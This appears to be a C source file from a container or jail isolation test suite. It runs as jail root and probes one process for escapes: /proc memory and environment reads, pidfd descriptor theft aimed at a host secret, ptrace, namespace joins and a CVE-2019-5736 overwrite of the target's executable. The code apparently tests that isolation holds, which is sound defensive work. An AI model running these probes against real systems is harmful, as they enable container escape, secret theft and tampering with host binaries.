/* SPDX-License-Identifier: BSD-2-Clause */
/* Everything that a root of the jail may try on one process that stands in it. */
#include "attacker.h"

#include <linux/kcmp.h>
#include <linux/perf_event.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void
tell(const char *name, long result)
{
	int error = errno;

	if (try_it(name, result))
		say("won %s", name);
	else
		say("lost %s %s", name, strerror(error));
}

static int
open_of(pid_t pid, const char *what, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	return open(path, flags | O_CLOEXEC);
}

static void
tell_open(pid_t pid, const char *name, const char *what, int flags)
{
	int fd = open_of(pid, what, flags);

	tell(name, fd);
	if (fd >= 0)
		close(fd);
}

/* Wins by content only: an empty answer is none. */
static void
tell_read(pid_t pid, const char *what)
{
	char bytes[64];
	int fd = open_of(pid, what, O_RDONLY);
	ssize_t n = -1;

	if (fd >= 0) {
		n = read(fd, bytes, sizeof(bytes));
		close(fd);
	}
	tell(what, n > 0 ? 0 : -1);
}

static void
tell_link(pid_t pid, const char *what)
{
	char path[64], target[256];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	tell(what, readlink(path, target, sizeof(target)));
}

/* Any descriptor is a gain; a directory of the host's is the way out. */
static void
tell_stolen(int pidfd)
{
	long stolen = -1, escaped = -1;

	for (int n = 0; n < 64; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0), secret;

		if (fd < 0)
			continue;
		stolen = 0;
		secret = openat(fd, "host-secret", O_RDONLY);
		if (secret >= 0)
			escaped = 0;
		close(secret);
		close(fd);
	}
	tell("pidfd_getfd", stolen);
	tell("escape", escaped);
}

static void
tell_descriptors(pid_t pid, int pidfd)
{
	char name[32];
	int fd = -1;

	/* Any will do: what is open is not known. */
	for (int n = 0; n < 64 && fd < 0; n++) {
		snprintf(name, sizeof(name), "fd/%d", n);
		fd = open_of(pid, name, O_RDONLY | O_NONBLOCK);
	}
	tell("fd", fd);
	if (fd >= 0)
		close(fd);
	tell_stolen(pidfd);
}

static void
tell_memory(pid_t pid, int pidfd)
{
	char byte;
	struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
	long result;
	int fd;

	result = process_vm_readv(pid, &here, 1, &there, 1, 0);
	tell("process_vm_readv", result == 1 || errno == EFAULT ? 0 : -1);
	result = process_vm_writev(pid, &here, 1, &there, 1, 0);
	tell("process_vm_writev", result == 1 || errno == EFAULT ? 0 : -1);
	fd = open_of(pid, "mem", O_RDWR);
	tell("mem", fd);
	if (fd >= 0)
		close(fd);
	there.iov_len = 4096;
	result = syscall(SYS_process_madvise, pidfd, &there, 1, MADV_COLD, 0);
	tell("process_madvise", result < 0 && errno == ENOMEM ? 0 : result);
	tell("move_pages", syscall(SYS_move_pages, pid, 0, NULL, NULL, NULL, 0));
}

static void
tell_namespaces(pid_t pid, int pidfd)
{
	static const char *const kinds[] = { "ns/mnt", "ns/pid", "ns/net",
		"ns/ipc", "ns/uts", "ns/user", "ns/cgroup" };

	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		tell_open(pid, kinds[i], kinds[i], O_RDONLY);
	tell("setns", setns(pidfd, CLONE_NEWNET));
}

static void
tell_tracing(pid_t pid)
{
	struct perf_event_attr attr = { .type = PERF_TYPE_SOFTWARE,
		.size = sizeof(attr),
		.config = PERF_COUNT_SW_TASK_CLOCK };
	void *head;
	size_t len;

	tell("kcmp", syscall(SYS_kcmp, pid, getpid(), KCMP_FILES, 0, 0));
	tell("get_robust_list", syscall(SYS_get_robust_list, pid, &head, &len));
	tell("perf_event_open",
	    syscall(SYS_perf_event_open, &attr, pid, -1, -1, 0));
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		tell("attach", 0);
	} else
		tell("attach", -1);
	/* The end of who seizes lets go. */
	tell("seize", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
}

void
look(pid_t pid)
{
	static const char *const reads[] = { "environ", "auxv", "maps", "smaps",
		"stack", "syscall", "io", "personality", "map_files" };
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	counts->seen++;
	for (size_t i = 0; i < sizeof(reads) / sizeof(reads[0]); i++)
		tell_read(pid, reads[i]);
	tell_link(pid, "exe");
	tell_link(pid, "root");
	tell_link(pid, "cwd");
	tell_open(pid, "exe-write", "exe", O_RDWR);
	tell_open(pid, "fdinfo", "fdinfo/0", O_RDONLY);
	tell_descriptors(pid, pidfd);
	tell_memory(pid, pidfd);
	tell_namespaces(pid, pidfd);
	tell_tracing(pid);
}

/* What root may do to any process of its own: no gain, and no trigger either. */
void
nuisance(pid_t pid)
{
	static const int limits[] = { RLIMIT_CPU, RLIMIT_SIGPENDING, RLIMIT_AS,
		RLIMIT_STACK, RLIMIT_DATA, RLIMIT_NPROC, RLIMIT_FSIZE };
	struct rlimit none = { 0, 0 }, all = { RLIM_INFINITY, RLIM_INFINITY };
	struct sched_param idle = { 0 };
	cpu_set_t cpus;
	char path[64];
	int fd;

	for (size_t i = 0; i < sizeof(limits) / sizeof(limits[0]); i++)
		say("prlimit %d", prlimit(pid, (unsigned)limits[i], &none, NULL));
	tell("core", prlimit(pid, RLIMIT_CORE, &all, NULL));
	say("nice %d", setpriority(PRIO_PROCESS, (id_t)pid, 19));
	say("idle %d", sched_setscheduler(pid, SCHED_IDLE, &idle));
	CPU_ZERO(&cpus);
	CPU_SET(0, &cpus);
	say("cpus %d", sched_setaffinity(pid, sizeof(cpus), &cpus));
	snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", pid);
	fd = open(path, O_WRONLY);
	say("oom %d", fd >= 0 && write(fd, "1000", 4) == 4);
	tell("setpgid", setpgid(pid, getpid()));
	tell("comm", open_of(pid, "comm", O_RDWR));
}

/*
 * CVE-2019-5736: the file behind /proc/PID/exe, alive, and after death, when
 * nobody executes it any more.  Says "kept" when it waits for that death.
 */
void
overwrite(pid_t pid)
{
	struct pollfd end = { (int)syscall(SYS_pidfd_open, pid, 0), POLLIN, 0 };
	static const int kinds[] = { O_RDONLY, O_PATH };
	char path[64];
	int kept[2], fd;

	tell_open(pid, "alive", "exe", O_RDWR);
	tell_open(pid, "alive-truncate", "exe", O_WRONLY | O_TRUNC);
	for (int i = 0; i < 2; i++)
		kept[i] = open_of(pid, "exe", kinds[i]);
	say("kept %d", (kept[0] >= 0) + (kept[1] >= 0));
	say(".");
	poll(&end, 1, -1);
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
		/* The kernel may still be at it. */
		do
			fd = open(path, O_RDWR);
		while (fd < 0 && errno == ETXTBSY);
		tell("reopened-write", fd < 0 ? -1 : write(fd, "evil", 4));
		tell("reopened-truncate", fd < 0 ? -1 : ftruncate(fd, 0));
		tell("reopened-map", fd >= 0 &&
			mmap(NULL, 4096, PROT_WRITE, MAP_SHARED, fd, 0) !=
			    MAP_FAILED ? 0 : -1);
	}
}
